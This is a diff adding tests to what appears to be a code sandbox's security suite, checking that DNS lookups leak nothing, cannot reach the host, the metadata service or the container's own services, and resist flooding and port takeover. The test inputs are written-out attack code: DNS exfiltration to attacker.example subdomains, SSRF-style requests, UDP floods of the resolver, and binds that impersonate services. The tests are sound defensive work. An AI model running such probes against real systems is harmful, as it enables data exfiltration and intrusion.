@@ -918,3 +918,79 @@ for number in range(1, 6):
 os.kill(os.getpid(), 9)
 """
     assert box.cell(replace).status == "killed"
+
+
+# ── names carry nothing out ─────────────────────────────────────────────────────────────────────────────────────────
+
+
+def test_a_name_that_is_looked_up_is_told_to_nobody(box: Box) -> None:
+    looks = """
+import socket
+for number in range(200): socket.getaddrinfo(f"{number:060x}.secrets.attacker.example", 443)
+print(open("/etc/resolv.conf").read().split(), socket.gethostbyname("a.attacker.example").split(".")[0])
+for server in ("1.1.1.1", "8.8.8.8", "192.0.2.53", "169.254.169.254", "172.17.0.1"):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
+        try: asking.sendto(b"x" * 30, (server, 53)); print("sent to", server)
+        except OSError: pass
+"""
+    result = box.cell(looks)
+    assert result.text == "['nameserver', '127.0.0.1'] 127\n", result
+    assert result.accesses == ()
+
+
+def test_ten_thousand_names_take_a_bounded_piece_of_pid_1(box: Box) -> None:
+    looks = "import socket\nfor number in range(10_000): socket.gethostbyname(f'{number:063x}.{number:063x}.example')"
+
+    def size() -> int:
+        rows = box.engine.api.top(box.id, "-eo pid,rss,args")["Processes"]
+        return next(int(rss) for _, rss, command in rows if "relay" in command)
+
+    before = size()
+    assert box.cell(looks).status == "ok"
+    assert size() - before < 8_000  # kilobytes
+    assert box.cell("import urllib.request as u\nu.urlopen('https://elsewhere.example')").accesses[0].refused
+
+
+def test_no_name_leads_to_the_host_or_to_the_container_s_own_services(box: Box, service: Service) -> None:
+    asks = f"""
+import http.client, ssl
+for name in ("localhost.attacker.example", "127.0.0.1.attacker.example", "metadata", "host.docker.internal"):
+    for port in (80, 443, {service.port}, 3128):
+        kind = http.client.HTTPSConnection if port == 443 else http.client.HTTPConnection
+        try:
+            connection = kind(name, port, timeout=5)
+            connection.request("GET", "/")
+            print(connection.getresponse().status)
+        except ConnectionRefusedError: print("refused")
+"""
+    assert box.says(asks).split() == ["403", "403", "refused", "refused"] * 4
+    assert service.visitors == []
+
+
+def test_questions_for_names_that_make_no_sense_hold_nothing_up(box: Box) -> None:
+    asks = """
+import os, socket
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flood:
+    flood.connect(("127.0.0.1", 53))
+    for number in range(20_000): flood.send(os.urandom(number % 1500))
+    flood.send(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\xc0\\x0c" * 300)
+socket.setdefaulttimeout(5)
+print(socket.gethostbyname("a.example")[:4])
+"""
+    assert box.says(asks) == "127."
+
+
+def test_nobody_takes_the_place_of_the_name_server_or_of_a_host(box: Box) -> None:
+    attempts = """
+import socket
+for address, port in (("127.0.0.1", 53), ("0.0.0.0", 53), ("127.64.0.1", 443), ("0.0.0.0", 80), ("127.0.0.1", 3128)):
+    for kind in (socket.SOCK_DGRAM,) if port == 53 else (socket.SOCK_STREAM,):
+        with socket.socket(socket.AF_INET, kind) as taking:
+            for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): taking.setsockopt(socket.SOL_SOCKET, option, 1)
+            try:
+                taking.bind((address, port))
+                if kind == socket.SOCK_STREAM: taking.listen()
+                print("took", address, port)
+            except OSError: pass
+"""
+    assert box.says(attempts) == ""
